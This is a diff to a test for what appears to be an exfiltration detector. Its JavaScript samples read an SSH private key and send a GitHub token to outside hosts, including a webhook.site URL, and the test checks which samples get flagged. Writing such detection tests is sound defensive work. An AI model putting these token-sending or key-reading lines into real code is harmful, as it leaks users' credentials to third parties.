@@ -226,7 +226,8 @@ def test_the_key_of_a_server_and_the_token_of_a_request_are_not_sent_away() -> N
     key = 'const key = require("fs").readFileSync(home + "/.ssh/id_rsa");'
     assert "exfiltration" not in names(key + ' require("https").createServer({key}, () => {})')
     token = "{headers: {Authorization: `Bearer ${process.env.GITHUB_TOKEN}`}}"
-    assert "exfiltration" not in names(f'fetch("https://api.example/x", {token})')
+    assert "exfiltration" not in names(f'fetch("https://api.github.com/x", {token})')
+    assert "exfiltration" in names(f'fetch("https://api.example/x", {token})')
     assert "exfiltration" in names(f'fetch("https://a.webhook.site/x", {token})')
 
 
